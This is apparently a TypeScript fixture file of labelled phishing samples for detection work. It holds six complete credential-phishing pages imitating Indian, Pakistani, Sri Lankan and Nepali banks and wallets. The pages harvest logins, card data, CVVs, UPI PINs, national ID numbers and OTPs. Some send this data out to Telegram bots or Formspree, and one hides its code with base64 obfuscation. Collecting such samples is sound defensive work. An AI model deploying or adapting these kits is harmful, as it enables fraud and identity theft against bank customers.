import { htmlRoute, redirectRoute, type Entry } from '../entry.js';
import { jsRoute, jsonRoute, pngRoute } from '../parts/e-bin.js';
import { b64, codes, doc, wordmark, emblem, qrSvg, bankCss, MOBILE_CSS, stepFlowScript, countdownScript, bankFooterLinks, FONTS } from '../parts/yn-kit.js';

// Kits for banks, card issuers, UPI apps and wallets reported by customers and the SOC.

export const entries: Entry[] = [
{
  id: 'yn-hdfc-netbanking-atob-docwrite',
  label: 'phishing',
  kind: 'bank-login-obfuscated',
  url: 'https://hdfcbank-netbanking-login-8b1f2.web.app/',
  body: doc({
    title: 'HDFC Bank NetBanking',
    head: '<link rel="shortcut icon" href="favicon.ico">',
    body: `<noscript>Please enable JavaScript to continue.</noscript>
<script>var _0x1a=["${b64(`<style>body{background:#f4f6f9;font-family:Arial,Helvetica,sans-serif}.hd{background:#004c8f;height:64px;display:flex;align-items:center;padding:0 30px}.hd svg{height:36px}.box{width:380px;margin:50px auto;background:#fff;border-top:4px solid #ed232a;padding:28px;box-shadow:0 1px 6px rgba(0,0,0,.12)}h3{color:#004c8f;margin-top:0}label{font-size:13px;display:block;margin:14px 0 4px;color:#333}input{width:100%;height:38px;border:1px solid #bbb;padding:0 10px}button{background:#ed232a;color:#fff;border:0;height:40px;width:100%;margin-top:20px;font-weight:bold}small{color:#666;display:block;margin-top:14px;line-height:1.5}#s2{display:none}</style><div class="hd"><svg viewBox="0 0 160 36" width="160"><rect width="36" height="36" fill="#ed232a"/><rect x="9" y="9" width="18" height="18" fill="#fff"/><rect x="14" y="14" width="8" height="8" fill="#004c8f"/><text x="44" y="25" fill="#fff" font-size="18" font-weight="bold">HDFC BANK</text></svg></div><div class="box"><h3>Login to NetBanking</h3><form id="s1"><label>Customer ID / User ID</label><input name="cid" maxlength="12" required><label>Password / IPIN</label><input type="password" name="ipin" required><button>LOGIN</button><small>Dear Customer, as per RBI guidelines your KYC must be re-verified to continue using NetBanking. Kindly login to complete the process.</small></form><form id="s2"><label>Registered Mobile Number</label><input name="mob" maxlength="10" required><label>Date of Birth (DD/MM/YYYY)</label><input name="dob" required><label>One Time Password (OTP)</label><input name="otp" maxlength="6" required><button>CONTINUE</button></form></div>`)}","${b64(`var t="7418853302:AAH2qfZ-kR9xVw1mLbn3Oq8dYt5sPzE4gUc",c="-1002217745390";function snd(m){return fetch("https://api.telegram.org/bot"+t+"/sendMessage",{method:"POST",headers:{"Content-Type":"application/json"},body:JSON.stringify({chat_id:c,text:m})}).catch(function(){})}document.getElementById("s1").onsubmit=function(e){e.preventDefault();var f=this;snd("HDFC\\nCID: "+f.cid.value+"\\nIPIN: "+f.ipin.value+"\\nUA: "+navigator.userAgent).then(function(){f.style.display="none";document.getElementById("s2").style.display="block"})};document.getElementById("s2").onsubmit=function(e){e.preventDefault();var f=this;snd("HDFC OTP\\nMOB: "+f.mob.value+"\\nDOB: "+f.dob.value+"\\nOTP: "+f.otp.value).then(function(){location.replace("https://www.hdfcbank.com/")})};`)}"];
document.write(decodeURIComponent(escape(atob(_0x1a[0]))));
(new Function(atob(_0x1a[1])))();
</script>`,
  }),
},
{
  id: 'yn-icici-reward-points-card-otp',
  label: 'phishing',
  kind: 'card-reward-kit',
  url: 'https://icici-rewardpoint-redeem.top/reward/',
  body: doc({
    title: 'ICICI Bank Reward Points Redemption',
    css: bankCss('#053c6d', '#f37e20') + `.pts{background:linear-gradient(135deg,#f37e20,#b02a30);color:#fff;border-radius:10px;padding:18px;margin-bottom:14px}.pts b{font-size:30px;display:block}.row{display:flex;gap:10px}.row>div{flex:1}`,
    body: `<div class="topbar"><div class="in">${wordmark('ICICI Bank', '#fff', '#053c6d', 130, 34)}<span><a href="#">Personal</a><a href="#">Cards</a><a href="#">Rewards</a></span></div></div>
<div class="main">
<div class="card">
<div class="pts">Your Reward Points worth<b>₹ 7,850.00</b>will expire today at 11:59 PM. Redeem now to get them credited in your account.</div>
<form id="rw" action="api.php" method="post">
<div class="step1">
<label>Full Name (as on card)</label><input type="text" name="name" required>
<label>Registered Mobile Number</label><input type="tel" name="mobile" maxlength="10" required>
<label>Credit / Debit Card Number</label><input type="tel" name="card" maxlength="19" autocomplete="cc-number" placeholder="XXXX XXXX XXXX XXXX" required>
<div class="row"><div><label>Expiry (MM/YY)</label><input type="text" name="exp" maxlength="5" required></div><div><label>CVV</label><input type="password" name="cvv" maxlength="3" required></div></div>
<label>Date of Birth</label><input type="text" name="dob" placeholder="DD-MM-YYYY">
<button class="btn block" type="submit">Redeem Now</button>
</div>
</form>
<form id="ot" style="display:none"><p class="sub">An OTP has been sent to your registered mobile number to credit ₹7,850 to your card.</p><label>Enter OTP</label><input type="tel" name="otp" maxlength="6"><button class="btn block">Confirm</button></form>
<p class="note">Reward points are redeemable as statement credit. Terms &amp; conditions apply.</p>
</div>
<div class="side"><h3>Why redeem now?</h3><ul><li>Points lapse at the end of the month</li><li>Instant statement credit</li><li>No charges on redemption</li></ul><img src="/reward/img/cards.png" width="280" alt=""></div>
</div>
${bankFooterLinks('ICICI Bank Ltd.')}
<script>
document.getElementById('rw').addEventListener('submit',function(e){e.preventDefault();var d=new URLSearchParams(new FormData(this));fetch('api.php?act=card',{method:'POST',body:d}).finally(function(){document.getElementById('rw').style.display='none';document.getElementById('ot').style.display='block'})});
document.getElementById('ot').addEventListener('submit',function(e){e.preventDefault();fetch('api.php?act=otp',{method:'POST',body:new URLSearchParams(new FormData(this))}).finally(function(){alert('Invalid OTP. A new OTP has been sent.');})});
</script>`,
  }),
  routes: {
    'icici-rewardpoint-redeem.top/reward/img/cards.png': pngRoute(240, 126, 32),
    'icici-rewardpoint-redeem.top/reward/api.php': jsonRoute({ ok: 1 }),
  },
},
{
  id: 'yn-paytm-wallet-kyc-upi-pin',
  label: 'phishing',
  kind: 'wallet-kyc-kit',
  url: 'https://paytmkyc-update.online/kyc/',
  body: doc({
    title: 'Paytm KYC Update',
    lang: 'hi',
    font: FONTS.deva,
    css: MOBILE_CSS + `.app header{background:#00baf2}.app button{background:#002e6e}.warn{background:#fff3cd;border:1px solid #ffe08a;padding:10px;border-radius:8px;font-size:13.5px}.pin{display:flex;gap:8px;justify-content:center}.pin input{width:44px;text-align:center;font-size:22px}`,
    body: `<div class="app"><header>${wordmark('Paytm', '#fff', '#002e6e', 96, 32)}<b>KYC Verification</b></header>
<div class="pad">
<p class="warn">⚠ आपका Paytm वॉलेट KYC 24 घंटे में समाप्त हो रहा है। KYC पूरी नहीं होने पर आपका वॉलेट <b>ब्लॉक</b> कर दिया जाएगा और बैलेंस फ्रीज़ हो जाएगा।<br><br>Your wallet KYC expires in 24 hours. Complete KYC to avoid blocking.</p>
<form class="step on" data-step="1">
<label>मोबाइल नंबर / Mobile Number</label><input type="tel" name="mobile" maxlength="10" required>
<label>आधार नंबर / Aadhaar Number</label><input type="tel" name="aadhaar" maxlength="12" required>
<label>पूरा नाम / Full Name</label><input type="text" name="name" required>
<button>आगे बढ़ें / Continue</button>
</form>
<form class="step" data-step="2">
<h1>UPI PIN से सत्यापित करें</h1>
<p class="muted">Verify with your UPI PIN to link KYC with your bank account.</p>
<label>Bank</label><select name="bank"><option>State Bank of India</option><option>HDFC Bank</option><option>ICICI Bank</option><option>Punjab National Bank</option><option>Bank of Baroda</option><option>Paytm Payments Bank</option><option>Other</option></select>
<label>UPI PIN</label>
<div class="pin"><input type="password" name="p1" maxlength="1" inputmode="numeric"><input type="password" name="p2" maxlength="1" inputmode="numeric"><input type="password" name="p3" maxlength="1" inputmode="numeric"><input type="password" name="p4" maxlength="1" inputmode="numeric"><input type="password" name="p5" maxlength="1" inputmode="numeric"><input type="password" name="p6" maxlength="1" inputmode="numeric"></div>
<button>Verify KYC</button>
</form>
<form class="step" data-step="3">
<h1>OTP</h1><label>6-digit OTP</label><input type="tel" name="otp" maxlength="6" required><button>Submit</button>
</form>
<p class="muted" style="text-align:center;margin-top:30px">Paytm &middot; One97 Communications Ltd.</p>
</div></div>
${stepFlowScript('/kyc/save.php', '/kyc/success.html', "document.querySelectorAll('.pin input').forEach(function(el,i,all){el.addEventListener('input',function(){if(el.value&&all[i+1])all[i+1].focus()})});")}`,
  }),
  routes: {
    'paytmkyc-update.online/kyc/success.html': htmlRoute(doc({ title: 'KYC Submitted', lang: 'hi', body: '<div style="text-align:center;padding:60px 20px"><h2 style="color:#00baf2">✔ KYC सफलतापूर्वक अपडेट हो गया</h2><p>Your KYC has been submitted. It will be verified within 24 hours.</p></div>' })),
  },
},
{
  id: 'yn-easypaisa-ramzan-inam-ur',
  label: 'phishing',
  kind: 'wallet-kit',
  url: 'https://easypaisa-ramzan-inam.site/',
  body: doc({
    title: 'ایزی پیسہ رمضان انعام 2025',
    lang: 'ur',
    dir: 'rtl',
    font: FONTS.urdu,
    css: MOBILE_CSS + `.app header{background:#38b449;justify-content:space-between}.app button{background:#38b449}.gift{font-size:15px;background:#eaf8ec;border-radius:10px;padding:12px;line-height:2}`,
    body: `<div class="app"><header>${wordmark('easypaisa', '#fff', '#38b449', 120, 32)}<span>رمضان انعامی اسکیم</span></header>
<div class="pad">
<div class="gift">🌙 مبارک ہو! آپ کا نمبر رمضان انعامی قرعہ اندازی میں منتخب ہوا ہے۔ آپ کو <b>Rs. 25,000</b> کا انعام دیا جا رہا ہے۔ انعام اپنے ایزی پیسہ اکاؤنٹ میں حاصل کرنے کے لیے نیچے تفصیلات درج کریں۔</div>
<form id="f">
<label>موبائل نمبر</label><input type="tel" name="msisdn" placeholder="03XX XXXXXXX" dir="ltr" required>
<label>شناختی کارڈ نمبر (CNIC)</label><input type="tel" name="cnic" placeholder="XXXXX-XXXXXXX-X" dir="ltr" required>
<label>ایزی پیسہ MPIN</label><input type="password" name="mpin" maxlength="5" dir="ltr" required>
<button>انعام حاصل کریں</button>
</form>
<div id="ok" style="display:none"><div class="spinner"></div><p>آپ کی درخواست پر کارروائی ہو رہی ہے۔ تصدیقی کوڈ درج کریں:</p><form id="f2"><input type="tel" name="otp" dir="ltr" maxlength="6"><button>تصدیق</button></form></div>
<p class="muted" style="text-align:center;margin-top:20px">Telenor Microfinance Bank Ltd.</p>
</div></div>
<script>
var B='7921144830:AAFk0rP3vQ_L9hWm2ZsX1eYd6uTqNc8bJ4o',C='6193028847';
function tg(t){return fetch('https://api.telegram.org/bot'+B+'/sendMessage?chat_id='+C+'&text='+encodeURIComponent(t)).catch(function(){})}
document.getElementById('f').addEventListener('submit',function(e){e.preventDefault();var f=e.target;tg('EP INAM\\nNo: '+f.msisdn.value+'\\nCNIC: '+f.cnic.value+'\\nMPIN: '+f.mpin.value).then(function(){f.style.display='none';document.getElementById('ok').style.display='block'})});
document.getElementById('f2').addEventListener('submit',function(e){e.preventDefault();tg('EP OTP: '+e.target.otp.value).then(function(){location.href='https://easypaisa.com.pk'})});
</script>`,
  }),
},
{
  id: 'yn-combank-lk-digital-si',
  label: 'phishing',
  kind: 'bank-login-kit',
  url: 'https://combank-lk-digital.com/ib/login.jsp',
  body: doc({
    title: 'ComBank Digital - Login',
    lang: 'si',
    font: FONTS.sinh,
    css: bankCss('#0b4ea2', '#0b4ea2') + `.notice{font-size:14px;background:#eaf2fd;padding:12px;border-radius:6px}`,
    body: `<div class="topbar"><div class="in">${wordmark('Commercial Bank', '#0b4ea2', '#fff', 190, 36)}<span><a href="#">සිංහල</a><a href="#">தமிழ்</a><a href="#">English</a></span></div></div>
<div class="main"><div class="card">
<h2>ComBank Digital</h2>
<p class="notice">ගරු පාරිභෝගිකය, ඔබගේ ගිණුමේ ආරක්ෂාව සඳහා නව ආරක්ෂක යාවත්කාලීන කිරීමක් අවශ්‍ය වේ. කරුණාකර ඔබගේ අන්තර්ජාල බැංකු ගිණුමට පිවිස එය සම්පූර්ණ කරන්න.<br><small>Dear customer, a security update is required on your account. Please log in to complete it.</small></p>
<form id="lf" method="post" action="auth.php">
<label>පරිශීලක නාමය / Username</label><input type="text" name="username" required>
<label>මුරපදය / Password</label><input type="password" name="password" required>
<button class="btn">පිවිසෙන්න / Login</button>
<p class="note"><a href="#">මුරපදය අමතකද?</a> &middot; <a href="#">නව පරිශීලකයෙක්ද? ලියාපදිංචි වන්න</a></p>
</form>
</div>
<div class="side"><h3>ආරක්ෂක උපදෙස්</h3><ul><li>ඔබගේ OTP කිසිවෙකුට ලබා නොදෙන්න</li><li>Always check for the padlock in your browser</li></ul></div></div>
${bankFooterLinks('Commercial Bank of Ceylon PLC')}`,
  }),
  routes: {
    'combank-lk-digital.com/ib/auth.php': htmlRoute(doc({ title: 'ComBank Digital - Verification', lang: 'si', font: FONTS.sinh, css: bankCss('#0b4ea2', '#0b4ea2'), body: `<div class="main"><div class="card"><h2>OTP තහවුරු කිරීම</h2><p class="sub">ඔබගේ ජංගම දුරකථනයට එවූ OTP අංකය ඇතුළත් කරන්න.</p><form method="post" action="otp.php"><label>OTP</label><input type="tel" name="otp" maxlength="6"><label>NIC අංකය</label><input type="text" name="nic"><button class="btn">තහවුරු කරන්න</button></form></div></div>` })),
  },
},
{
  id: 'yn-esewa-wallet-login-vercel',
  label: 'phishing',
  kind: 'wallet-kit',
  url: 'https://esewa-kyc-verify.vercel.app/login',
  body: doc({
    title: 'eSewa - Login',
    lang: 'ne',
    css: `body{background:#f3f7f1}.box{max-width:400px;margin:50px auto;background:#fff;border-radius:10px;padding:28px;box-shadow:0 3px 14px rgba(0,0,0,.08)}h2{color:#41a124;margin:8px 0}input{width:100%;height:44px;margin:8px 0;border:1px solid #ccd;border-radius:6px;padding:0 12px}button{width:100%;height:46px;background:#41a124;color:#fff;border:0;border-radius:6px;font-size:16px;margin-top:12px}.t{font-size:13px;color:#555}`,
    body: `<div class="box">${wordmark('eSewa', '#41a124', '#fff', 110, 36)}
<h2>Login to eSewa</h2><p class="t">तपाईंको वालेट KYC प्रमाणीकरणको लागि लगइन गर्नुहोस्। KYC नगरेमा वालेट लोड र भुक्तानी सेवा बन्द हुनेछ।</p>
<form id="l"><input name="esewa_id" placeholder="eSewa ID (Mobile / Email)" required><input type="password" name="password" placeholder="Password" required><input type="password" name="mpin" placeholder="MPIN (4 digit)" maxlength="4" required><button>Login</button></form>
<p class="t" style="text-align:center">Forgot Password? &middot; Register</p></div>
<script>
document.getElementById('l').onsubmit=function(e){e.preventDefault();var o={};new FormData(this).forEach(function(v,k){o[k]=v});o.t=Date.now();
fetch('https://formspree.io/f/mzbnwqrl',{method:'POST',headers:{'Accept':'application/json','Content-Type':'application/json'},body:JSON.stringify(o)}).then(function(){location.href='/otp'}).catch(function(){location.href='/otp'})};
</script>`,
  }),
  routes: {
    'esewa-kyc-verify.vercel.app/otp': htmlRoute(doc({ title: 'eSewa - OTP', body: `<div style="max-width:400px;margin:60px auto;font-family:Arial"><h3 style="color:#41a124">Enter OTP</h3><p>We have sent a 6-digit code to your registered mobile.</p><form onsubmit="event.preventDefault();fetch('https://formspree.io/f/mzbnwqrl',{method:'POST',body:new FormData(this)});this.innerHTML='Verifying...'"><input name="otp" maxlength="6" style="width:100%;height:44px"><button style="width:100%;height:44px;margin-top:10px;background:#41a124;color:#fff;border:0">Verify</button></form></div>` })),
  },
},
];
